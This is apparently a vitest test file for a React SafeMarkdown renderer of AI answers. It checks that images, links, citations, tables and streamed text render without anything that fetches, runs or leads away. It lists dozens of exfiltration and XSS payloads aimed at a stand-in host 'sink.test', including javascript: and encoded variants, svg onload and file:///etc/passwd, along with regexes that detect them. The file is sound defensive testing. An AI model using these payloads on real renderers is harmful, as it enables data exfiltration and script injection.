import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { SafeMarkdown, type MarkdownWords } from './safe-markdown.tsx';
import { allowedAddress, citationParts, settledText } from './safe-markdown-tree.ts';

const words: MarkdownWords = {
  copy: 'Copier',
  copied: 'Copié',
  citation: number => `Source ${number}`,
  unverified: 'Non retrouvé',
  linkTitle: 'Lien',
  linkBody: 'Adresse',
  linkOpen: 'Ouvrir',
  cancel: 'Annuler',
};

function draw(
  text: string,
  options: { numbers?: number[]; unverified?: string[]; streaming?: boolean } = {},
) {
  const { numbers = [], unverified, streaming } = options;
  return renderToStaticMarkup(
    <SafeMarkdown
      text={text}
      words={words}
      citations={{ numbers, active: null, onOpen: () => undefined }}
      unverified={unverified}
      streaming={streaming ?? false}
    />,
  ).replace(/<style[^>]*>.*?<\/style>/gs, '');
}

/** What a browser would act on: tags and their attributes, without the text between them. */
function tagsOf(html: string): string {
  return (html.match(/<[^>]*>/g) ?? []).join('\n');
}

const SINK = 'http://sink.test/?q=secret';
const SINK_TLS = 'https://sink.test/?q=secret';

/** Row 59: every Markdown form by which an answer could fetch, and row 57: forms by which it could run. */
const payloads = [
  `![x](${SINK})`,
  `![x](${SINK_TLS} "title")`,
  `![x](<${SINK_TLS}>)`,
  `![x][ref]\n\n[ref]: ${SINK_TLS}`,
  `![ref][]\n\n[ref]: ${SINK_TLS}`,
  `![ref]\n\n[ref]: ${SINK_TLS}`,
  `[![x](${SINK_TLS})](${SINK_TLS})`,
  `[text](${SINK})`,
  `[text][ref]\n\n[ref]: ${SINK_TLS}`,
  `[1]\n\n[1]: ${SINK_TLS}`,
  `[text][1]\n\n[1]: ${SINK_TLS}`,
  `Voir[^1].\n\n[^1]: ![x](${SINK_TLS})`,
  `<${SINK_TLS}>`,
  SINK_TLS,
  'www.sink.test/?q=secret',
  `<img src="${SINK_TLS}">`,
  `<img src=x onerror=alert(1)>`,
  `text <img src=${SINK_TLS}> text`,
  `<svg onload=alert(1)><image href="${SINK_TLS}"/></svg>`,
  `<svg><script>alert(1)</script></svg>`,
  `<script src="${SINK_TLS}"></script>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>">`,
  `<link rel=prefetch href="${SINK_TLS}">`,
  `<meta http-equiv=refresh content="0;url=${SINK_TLS}">`,
  `<style>@import "${SINK_TLS}";</style>`,
  `<video poster="${SINK_TLS}"><source src="${SINK_TLS}"></video>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<form action="${SINK_TLS}"><button formaction="javascript:alert(1)">x</button></form>`,
  `<details open ontoggle=alert(1)>`,
  `<div style="background:url(${SINK_TLS})">`,
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](smb://sink.test/share)',
  '[x](ms-msdt:/id)',
  '[x](//sink.test/?q=secret)',
  '[x](/api/conversations)',
  '[x](#anchor)',
  '<javascript:alert(1)>',
  '| a |\n|---|\n| ![x](https://sink.test/?q=secret) |',
  `- [ ] ![x](${SINK_TLS})`,
  `> ![x](${SINK_TLS})`,
  `# ![x](${SINK_TLS})`,
  `\`\`\`html\n<img src="${SINK_TLS}">\n\`\`\``,
  `![a![b](${SINK_TLS})](${SINK_TLS})`,
  `![x](${SINK_TLS}`,
];

describe('SafeMarkdown', () => {
  it.each(payloads)('neither fetches, runs nor leads away: %s', payload => {
    for (const streaming of [false, true]) {
      const tags = tagsOf(draw(payload, { numbers: [1, 2], streaming }));
      expect(tags).not.toMatch(
        /<(img|image|script|iframe|svg|link|meta|style|video|audio|source|form|object|embed|a)\b/i,
      );
      expect(tags).not.toMatch(
        /\s(src|srcset|href|action|formaction|poster|style|background|srcdoc|on\w+|ping)=/i,
      );
      expect(tags).not.toMatch(/javascript:|data:text|vbscript:/i);
    }
  });

  it.each(payloads.map(payload => [payload] as const))(
    'stays harmless at every cut of the stream: %s',
    payload => {
      for (let end = 1; end <= payload.length; end += 3) {
        const tags = tagsOf(draw(payload.slice(0, end), { numbers: [1], streaming: true }));
        expect(tags).not.toMatch(/<(img|script|iframe|svg|a)\b|\s(src|href|style|on\w+)=/i);
      }
    },
  );

  it('shows an image as its words', () => {
    expect(draw('Avant ![le plan](https://sink.test/a.png) après')).toContain('Avant le plan après');
  });

  it('shows an https link as a button that names its address, and others as text', () => {
    const html = draw('[le site](https://example.org/a) et [autre](http://example.org)');
    expect(html).toMatch(/<button[^>]*title="https:\/\/example.org\/a"[^>]*>le site<\/button>/);
    expect(html).toContain(' et autre');
    expect(html.match(/<button/g)).toHaveLength(1);
  });

  it('makes buttons of the citations that exist, and of no other number', () => {
    const html = draw('Quatre jours [1][2], puis [1, 3] et [9].', { numbers: [1, 2, 3] });
    expect(html.match(/class="citation"/g)).toHaveLength(4);
    expect(html).toContain('aria-label="Source 3"');
    expect(html).toContain('[9]');
  });

  it('reads [1] as a citation even when the answer defines it as a link', () => {
    const html = draw('Quatre jours [1].\n\n[1]: https://sink.test/', { numbers: [1] });
    expect(html).toContain('aria-label="Source 1"');
    expect(html).not.toContain('sink.test');
  });

  it('reads footnote marks as citations', () => {
    expect(draw('Quatre jours [^2].\n\n[^2]: note', { numbers: [2] })).toContain('aria-label="Source 2"');
  });

  it('leaves brackets in code alone', () => {
    expect(draw('`a[1]`', { numbers: [1] })).toContain('<code>a[1]</code>');
  });

  it('marks a quotation the passages do not hold', () => {
    const html = draw('Il dit « huit jours » [1].', { numbers: [1], unverified: ['huit jours'] });
    expect(html).toMatch(/class="unverified"[^>]*>huit jours<\/span>/);
    expect(html).toContain('aria-label="Source 1"');
  });

  it('draws tables, and line breaks inside them', () => {
    const html = draw('| a | b |\n|---|---|\n| 1<br>2 | 3 |');
    expect(html).toContain('<th>a</th>');
    expect(html).toMatch(/1<br\/>\s2/);
  });

  it('draws a code block whose end has not come yet', () => {
    expect(draw('Voici :\n\n```js\nlet a = 1;', { streaming: true })).toMatch(
      /<pre[^>]*><code[^>]*>let a = 1;/,
    );
  });
});

describe('settledText', () => {
  it.each([
    ['Quatre jours [1', 'Quatre jours '],
    ['Quatre jours [1][', 'Quatre jours [1]'],
    ['Voir [le site](https://exa', 'Voir '],
    ['Un mot **en gra', 'Un mot **en gra**'],
    ['Un mot **', 'Un mot '],
    ['Du `code', 'Du `code`'],
    ['Fin nette [1].', 'Fin nette [1].'],
    ['```\na[1', '```\na[1'],
    ['Un\n\ndeux **tr', 'Un\n\ndeux **tr**'],
  ])('%j becomes %j', (streamed, shown) => {
    expect(settledText(streamed)).toBe(shown);
  });
});

describe('citationParts', () => {
  it('keeps a bracket that names a source that does not exist', () => {
    expect(citationParts('a [1, 9] b [1]', new Set([1]))).toEqual(['a [1, 9] b ', 1]);
  });

  it('takes a long run of brackets in linear time', () => {
    const started = performance.now();
    citationParts('['.repeat(50_000) + '1,'.repeat(50_000), new Set([1]));
    expect(performance.now() - started).toBeLessThan(500);
  });
});

describe('allowedAddress', () => {
  it.each([
    ['https://example.org/a?b=c', 'https://example.org/a?b=c'],
    ['mailto:rh@example.org', 'mailto:rh@example.org'],
    ['http://example.org', null],
    ['https://bank.example@sink.test/', null],
    ['https:sink.test', null],
    [' javascript:alert(1)', null],
    ['', null],
  ])('%s', (href, address) => {
    expect(allowedAddress(href)).toBe(address);
  });
});
